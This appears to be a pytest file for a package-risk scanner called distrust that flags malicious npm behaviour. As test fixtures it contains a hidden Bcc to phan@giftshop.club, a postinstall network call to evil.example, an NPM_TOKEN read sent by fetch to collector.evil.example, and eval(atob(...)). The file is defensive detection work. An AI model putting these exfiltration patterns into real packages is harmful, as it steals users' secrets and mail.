"""Rule engine tests on hand-built profiles, so rule logic is tested apart from the parsers."""

from __future__ import annotations

from pathlib import Path

import pytest

from distrust.analyze.kinds import KINDS
from distrust.analyze.rules import RuleError, load_rules, parse_rules, rules_markdown
from distrust.analyze.score import assess_diff, assess_profile, domain_of, install_files, is_test_path
from distrust.model import Artifact, Capability, PackageRef, Profile, Severity


def _artifact(root: Path, files: dict[str, str], version: str = "1.0.0") -> Artifact:
    for rel, text in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return Artifact(
        ref=PackageRef("npm", "pkg", version, pinned=True),
        root=root,
        files=tuple(sorted(files)),
        integrity="sha256-test",
        source=str(root),
    )


def _cap(kind: str, value: str, file: str = "index.js", line: int = 1) -> Capability:
    assert kind in KINDS
    return Capability(kind, value, file, line, snippet=value)


def _profile(art: Artifact, *caps: Capability, main: str = "index.js") -> Profile:
    return Profile(artifact=art, capabilities=tuple(caps), metadata=(("main", main),))


def test_shipped_rules_load_and_document_themselves() -> None:
    rules = load_rules()
    assert len(rules) >= 20
    assert len({r.id for r in rules}) == len(rules)
    doc = rules_markdown(rules)
    for r in rules:
        assert r.id in doc


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ('[[rule]]\nid="X"\n', "missing field"),
        (
            '[[rule]]\nid="X"\nname="n"\napplies="sometimes"\nseverity="low"\nkinds=["network.url"]\n'
            'title="t"\nexplanation="e"\nrationale="r"\n',
            "applies must be",
        ),
        (
            '[[rule]]\nid="X"\nname="n"\napplies="version"\nseverity="low"\nkinds=["network.nope"]\n'
            'title="t"\nexplanation="e"\nrationale="r"\n',
            "unknown kinds",
        ),
        (
            '[[rule]]\nid="X"\nname="n"\napplies="version"\nseverity="low"\nkinds=["network.url"]\n'
            'value_pattern="("\ntitle="t"\nexplanation="e"\nrationale="r"\n',
            "not a valid regex",
        ),
        ("[[rule]\n", "risk.toml"),
    ],
)
def test_malformed_rules_name_the_rule_and_field(text: str, message: str) -> None:
    with pytest.raises(RuleError, match=message):
        parse_rules(text)


def test_domain_of() -> None:
    assert domain_of("bcc=phan@giftshop.club") == "giftshop.club"
    assert domain_of("https://api.postmarkapp.com/email") == "postmarkapp.com"
    assert domain_of("fetch https://x.evil.co.uk/a") == "evil.co.uk"
    assert domain_of("api.example.org:443") == "example.org"
    assert domain_of("bcc=<dynamic>") == ""


def test_test_paths() -> None:
    assert is_test_path("test/index.js")
    assert is_test_path("src/__tests__/a.ts")
    assert is_test_path("lib/foo.spec.ts")
    assert is_test_path("tests/test_x.py")
    assert not is_test_path("lib/contest.js")
    assert not is_test_path("index.js")


def test_hidden_bcc_in_one_version_is_critical(tmp_path: Path) -> None:
    art = _artifact(tmp_path, {"index.js": "x\n"})
    prof = _profile(
        art, _cap("email.send", "postmark sendEmail"), _cap("email.recipient", "bcc=phan@giftshop.club")
    )
    result = assess_profile(prof)
    assert result.level == Severity.CRITICAL
    assert result.findings[0].rule_id == "DT-RISK-001"
    assert "phan@giftshop.club" in result.findings[0].title
    assert result.score >= 90


def test_dynamic_recipients_are_not_findings(tmp_path: Path) -> None:
    art = _artifact(tmp_path, {"index.js": "x\n"})
    prof = _profile(art, _cap("email.recipient", "to=<dynamic>"), _cap("email.recipient", "bcc=<dynamic>"))
    assert assess_profile(prof).level == Severity.NONE


def test_install_hook_scope_follows_the_script_it_runs(tmp_path: Path) -> None:
    art = _artifact(tmp_path, {"package.json": "{}\n", "scripts/setup.js": "x\n", "index.js": "y\n"})
    hook = _cap("install.hook", "postinstall: node scripts/setup.js", file="package.json", line=5)
    net = _cap("network.request", "https.get https://evil.example/x", file="scripts/setup.js", line=3)
    recon = _cap("recon.system", "os.hostname", file="scripts/setup.js", line=2)
    prof = _profile(art, hook, net, recon)
    assert install_files(prof) == {"scripts/setup.js"}
    result = assess_profile(prof)
    assert result.level == Severity.CRITICAL
    assert {f.rule_id for f in result.findings} >= {"DT-RISK-011", "DT-RISK-012"}
    # The same network code outside install scope is not an install-time finding.
    prof2 = _profile(art, hook, _cap("network.request", "https.get https://evil.example/x", file="index.js"))
    assert assess_profile(prof2).level == Severity.LOW


def test_node_dot_hook_means_the_main_file(tmp_path: Path) -> None:
    art = _artifact(tmp_path, {"package.json": "{}\n", "lib/main.js": "x\n"})
    hook = _cap("install.hook", "postinstall: node . --postinstall", file="package.json")
    prof = _profile(art, hook, main="lib/main.js")
    assert install_files(prof) == {"lib/main.js"}


def test_findings_in_tests_are_downgraded(tmp_path: Path) -> None:
    art = _artifact(tmp_path, {"test/a.js": "x\n"})
    prof = _profile(art, _cap("code.decode_exec", "eval(atob(...))", file="test/a.js"))
    assert assess_profile(prof).level == Severity.MEDIUM


def test_diff_flags_the_one_added_bcc_line(tmp_path: Path) -> None:
    old_src = "client.sendEmail({\n  To: to,\n  Subject: s,\n});\n"
    new_src = "client.sendEmail({\n  To: to,\n  Bcc: 'phan@giftshop.club',\n  Subject: s,\n});\n"
    old = _artifact(tmp_path / "old", {"index.js": old_src}, "1.0.15")
    new = _artifact(tmp_path / "new", {"index.js": new_src}, "1.0.16")
    old_p = _profile(
        old, _cap("email.send", "postmark sendEmail"), _cap("email.recipient", "to=<dynamic>", line=2)
    )
    new_p = _profile(
        new,
        _cap("email.send", "postmark sendEmail"),
        _cap("email.recipient", "to=<dynamic>", line=2),
        _cap("email.recipient", "bcc=phan@giftshop.club", line=3),
    )
    result = assess_diff(old_p, new_p)
    assert result.level == Severity.CRITICAL
    top = result.findings[0]
    assert top.rule_id in ("DT-RISK-003", "DT-RISK-001")
    ids = {f.rule_id for f in result.findings}
    assert "DT-RISK-003" in ids
    f003 = next(f for f in result.findings if f.rule_id == "DT-RISK-003")
    assert "index.js:3" in f003.detail
    assert "no earlier version referred to giftshop.club" in f003.detail
    added = [rc for rc in result.changes if rc.change.kind == "added"]
    assert len(added) == 1 and added[0].change.in_changed_lines
    assert added[0].severity == Severity.CRITICAL


def test_moved_code_is_not_news(tmp_path: Path) -> None:
    line = "  const u = 'https://api.partner.example/v1';\n"
    old = _artifact(tmp_path / "old", {"a.js": "// a\n" + line})
    new = _artifact(tmp_path / "new", {"b.js": "// other file now\n\n" + line})
    old_p = _profile(old, _cap("network.url", "https://api.partner.example/v1", file="a.js", line=2))
    new_p = _profile(new, _cap("network.url", "https://api.partner.example/v1", file="b.js", line=3))
    result = assess_diff(old_p, new_p)
    assert result.level == Severity.NONE
    assert result.changes == ()


def test_new_endpoint_next_to_secret_read_is_critical(tmp_path: Path) -> None:
    old = _artifact(tmp_path / "old", {"index.js": "const a = 1;\n"})
    new = _artifact(
        tmp_path / "new",
        {
            "index.js": "const a = 1;\nconst t = process.env.NPM_TOKEN;\n"
            "fetch('https://collector.evil.example/c', t);\n"
        },
    )
    old_p = _profile(old)
    new_p = _profile(
        new,
        _cap("env.read.secret", "NPM_TOKEN", line=2),
        _cap("network.request", "fetch https://collector.evil.example/c", line=3),
    )
    result = assess_diff(old_p, new_p)
    assert result.level == Severity.CRITICAL
    assert "DT-RISK-034" in {f.rule_id for f in result.findings}


def test_existing_behaviour_is_not_reported_again_in_a_diff(tmp_path: Path) -> None:
    src = "eval(atob(x));\n"
    old = _artifact(tmp_path / "old", {"index.js": src})
    new = _artifact(tmp_path / "new", {"index.js": "// v2\n" + src})
    cap_old = _cap("code.decode_exec", "eval(atob(...))", line=1)
    cap_new = _cap("code.decode_exec", "eval(atob(...))", line=2)
    result = assess_diff(_profile(old, cap_old), _profile(new, cap_new))
    assert result.level == Severity.NONE
    assert assess_profile(_profile(new, cap_new)).level == Severity.HIGH


def test_rules_md_is_generated_from_the_rule_data() -> None:
    """RULES.md must be regenerated (`distrust rules --markdown > RULES.md`) when rules change."""
    import subprocess
    import sys

    exe = str(Path(sys.executable).with_name("distrust"))
    fresh = subprocess.run([exe, "rules", "--markdown"], capture_output=True, text=True, check=True).stdout
    assert (Path(__file__).parents[2] / "RULES.md").read_text() == fresh
